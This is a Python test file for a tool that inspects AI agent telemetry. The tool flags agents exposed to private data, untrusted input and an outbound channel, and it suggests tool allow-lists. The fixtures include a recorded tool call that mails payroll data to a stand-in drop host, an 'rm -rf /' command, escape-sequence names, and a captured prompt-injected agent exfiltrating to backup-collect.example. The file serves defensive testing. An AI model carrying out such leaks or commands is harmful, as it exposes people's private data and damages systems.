"""`sidecar exposure`: on recordings, beside a running sidecar, and an allow-list that the sidecar takes."""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from sidecar.cli.commands import run
from sidecar.cli.exposure import agent_and_files
from sidecar.config import read
from sidecar.sources import Row
from sidecar.storage import StorageSettings, TelemetryStore
from tests.shells.otlp.kit import span, traces
from tests.shells.recordings import Act, recorded, write_lines

Cli = Callable[..., tuple[int, str, str]]

PAY = "CONFIDENTIAL payroll\nAda Quill,GB33BUKB20201555555555,61200"
READS = Act("read_inbox", {"folder": "inbox"}, "From: amy@corp.example\nThe meeting is at noon.")
LEAKS = Act("send_email", {"to": "box@drop.example.net", "subject": "x", "body": PAY}, "sent")
SEARCHES = Act("search_files", {"query": "pay"}, PAY)
ASKED = Act("post_message", {"to": "desk@partner.example", "body": "Noon it is."}, "sent")
DULL = Act("read_file", {"path": "menu.txt"}, "Soup.")


@pytest.fixture
def cli(capsys: pytest.CaptureFixture[str]) -> Cli:
    def call(*argv: object) -> tuple[int, str, str]:
        capsys.readouterr()
        code = run(["exposure", *map(str, argv)])
        out, err = capsys.readouterr()
        return code, out, err

    return call


@pytest.fixture(scope="module")
def leak(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("leak")
    return write_lines(
        folder / "leak.jsonl",
        [recorded("monday", READS, SEARCHES, LEAKS), recorded("tuesday", DULL, at_s=60, agent="menu")],
    )


def test_an_exposed_agent_is_told_with_its_three_spans(cli: Cli, leak: Path) -> None:
    code, out, _ = cli("desk", leak)
    assert code == 1
    assert "EXPOSED: private data, untrusted input and a way out" in out
    _, out, _ = cli("desk", leak, "--json")
    (agent,) = json.loads(out)["agents"]
    assert agent["exposed"]
    assert len({agent["trifecta"][leg]["span"] for leg in ("private", "out")}) == 2


def test_an_agent_that_showed_less_is_fine_and_others_do_not_count(cli: Cli, leak: Path) -> None:
    code, out, _ = cli("menu", leak)
    assert code == 0
    assert "not all shown" in out
    assert "desk" not in out


def test_no_such_agent_and_no_telemetry_cannot_tell(cli: Cli, leak: Path, tmp_path: Path) -> None:
    code, _, err = cli("nobody", leak)
    assert code == 2
    assert "cannot tell" in err
    assert "desk" in err
    other = traces(span(name="GET /", span_id=b"12345678", trace_id=b"1234567812345678"))
    code, _, err = cli(write_lines(tmp_path / "web.jsonl", [other]))
    assert code == 2
    assert "none says anything of an agent" in err
    code, _, err = cli(tmp_path / "absent.jsonl")
    assert code == 2
    assert "absent.jsonl" in err


def test_the_first_word_is_an_agent_unless_it_is_written_like_a_file(tmp_path: Path) -> None:
    assert agent_and_files(["desk", "a.jsonl"]) == ("desk", ["a.jsonl"])
    assert agent_and_files(["a.jsonl", "b.jsonl"]) == (None, ["a.jsonl", "b.jsonl"])
    assert agent_and_files(["-"]) == (None, ["-"])
    assert agent_and_files([]) == (None, [])


def test_hostile_names_steer_neither_terminal_nor_suggestion(cli: Cli, tmp_path: Path) -> None:
    odd = Act("evil\nsidecar:\x1b[2J\n  closed: false", {"to": "a@b.example"}, "x")
    star = Act("*", {"to": "a@b.example"}, "x")
    file = write_lines(tmp_path / "odd.jsonl", [recorded("s", odd, star, agent="a\x1b]0;x\x07\n# y")])
    _, out, err = cli(file)
    assert "\x1b" not in out + err
    assert "\x07" not in out + err
    _, out, err = cli(file, "--suggest")
    assert "\x1b" not in out + err
    document = yaml.safe_load(out)
    assert document == {"tools": {"closed": True}}


# ------------------------------------------------------------ the suggestion


def test_the_suggestion_is_taken_by_the_configuration_and_leaves_out_what_was_flagged(
    cli: Cli, leak: Path, tmp_path: Path
) -> None:
    list_file = tmp_path / "allow.yaml"
    code, _, _ = cli(leak, "--suggest", "--out", list_file)
    assert code == 1
    config = read(list_file)
    assert config.tools.closed
    assert set(config.tools.overrides) == {"read_inbox", "search_files", "read_file"}
    assert "drop.example.net" not in [*config.organisation.domains, *config.organisation.partners]
    text = list_file.read_text()
    assert "not suggested: send_email: flagged by" in text
    assert "1 call, " in text


def test_a_suggested_override_never_makes_an_act_milder(cli: Cli, leak: Path, tmp_path: Path) -> None:
    acts = [READS, SEARCHES, Act("frobnicate", {"to": "x"}, "ok"), Act("bash", {"command": "ls"}, "a"), ASKED]
    file = write_lines(tmp_path / "all.jsonl", [recorded("s", *acts)])
    cli(file, "--suggest", "--out", tmp_path / "allow.yaml")
    suggested, shipped = read(tmp_path / "allow.yaml").tools.catalogue(), read(None).tools.catalogue()
    for tool, arguments in [
        *[(act.tool, act.arguments) for act in acts],
        ("bash", {"command": "rm -rf /"}),
        ("read_inbox", {"action": "delete"}),
        ("frobnicate", {}),
    ]:
        before, after = shipped.effect(tool, arguments), suggested.effect(tool, arguments)
        assert after.known
        assert before.reversible or not after.reversible
        for does in ("reads", "sends", "changes", "runs", "standing", "outward"):
            assert getattr(after, does) or not getattr(before, does), (tool, does)


def test_a_destination_becomes_a_partner_only_where_it_was_asked_for(cli: Cli, tmp_path: Path) -> None:
    def told(text: str) -> Any:
        request = recorded("s", ASKED, Act("send_email", {"to": "me@gmail.com", "body": "hi"}, "sent"))
        attributes = request.resource_spans[0].scope_spans[0].spans[0].attributes
        (asked,) = (one for one in attributes if one.key == "gen_ai.input.messages")
        asked.value.string_value = json.dumps([{"role": "user", "parts": [{"type": "text", "content": text}]}])
        return request

    for text, partners in (
        ("Write to desk@partner.example and me@gmail.com", ("partner.example",)),
        ("Go on.", ()),
    ):
        file = write_lines(tmp_path / "one.jsonl", [told(text)])
        cli(file, "--suggest", "--out", tmp_path / "allow.yaml")
        assert read(tmp_path / "allow.yaml").organisation.partners == partners


def test_out_without_suggest_is_refused(cli: Cli, leak: Path, tmp_path: Path) -> None:
    code, _, err = cli(leak, "--out", tmp_path / "x.yaml")
    assert code == 2
    assert "--suggest" in err


# ------------------------------------------------------------ beside a running sidecar


def test_what_the_sidecar_received_is_read_beside_it(cli: Cli, tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir(mode=0o700)
    config = tmp_path / "sidecar.yaml"
    config.write_text(f"storage: {{data_dir: {data}}}\norganisation: {{domains: [corp.example]}}\n")

    async def fill() -> tuple[int, str, str]:
        store = TelemetryStore.open(StorageSettings(data_dir=data))
        body = recorded("monday", READS, SEARCHES, LEAKS).SerializeToString()
        await store.append(Row("traces", b"no request", time.time_ns() - 7200 * 10**9))
        await store.append(Row("traces", body, time.time_ns()))
        await store.append(Row("traces", body, time.time_ns()))
        found = await asyncio.to_thread(cli, "-c", config, "--minutes", 60, "--json")  # while it is in use
        await store.close()
        return found

    code, out, _ = asyncio.run(fill())
    (agent,) = json.loads(out)["agents"]
    assert code == 1
    assert agent["acts"] == 3
    assert "unasked" not in agent["shown"], "the user's words end with the run, after the acts"
    assert {place["address"]: place["relation"] for place in agent["places"]}["box@drop.example.net"] == "outside"


def test_a_folder_without_a_sidecar_cannot_tell(cli: Cli, tmp_path: Path) -> None:
    config = tmp_path / "sidecar.yaml"
    config.write_text(f"storage: {{data_dir: {tmp_path / 'nothing'}}}\n")
    code, _, err = cli("-c", config)
    assert code == 2
    assert "nothing" in err


# ------------------------------------------------------------ real telemetry


@pytest.mark.corpora
def test_a_real_agent_that_was_hijacked_is_exposed_and_its_mail_is_in_no_allow_list(cli: Cli, shared: Path) -> None:
    file = shared / "captures" / "agent_framework-openinference.injected.content.traces.otlp.pb.gz"
    code, out, _ = cli(file, "--json")
    (agent,) = json.loads(out)["agents"]
    assert code == 1
    assert "backup-collect.example" in agent["trifecta"]["out"]["text"]
    assert agent["never_used"] == []
    assert set(agent["offered"]) == {use["name"] for use in agent["tools"]}
    _, out, _ = cli(file, "--suggest")
    assert "not suggested: backup-collect.example" in out
    assert "organisation" not in yaml.safe_load(out)


@pytest.mark.corpora
@pytest.mark.parametrize(
    "capture", ["agent_framework-openinference", "openai-openinference", "anthropic-openinference"]
)
def test_where_content_is_withheld_it_never_says_that_an_agent_is_not_exposed(
    cli: Cli, shared: Path, capture: str
) -> None:
    file = shared / "captures" / f"{capture}.benign.nocontent.traces.otlp.pb.gz"
    if not file.exists():
        pytest.fail(f"no capture {file.name}")
    code, _, err = cli(file)
    assert code == 2
    assert "cannot tell" in err


@pytest.mark.corpora
def test_an_agent_that_serves_customers_and_sends_nothing_out_is_not_exposed(cli: Cli, shared: Path) -> None:
    code, out, _ = cli(shared / "corpora" / "tau_airline.otlp.jsonl.gz", "--json")
    (agent,) = json.loads(out)["agents"]
    assert code == 0
    assert agent["trifecta"] is None
    assert agent["sessions"] == 100
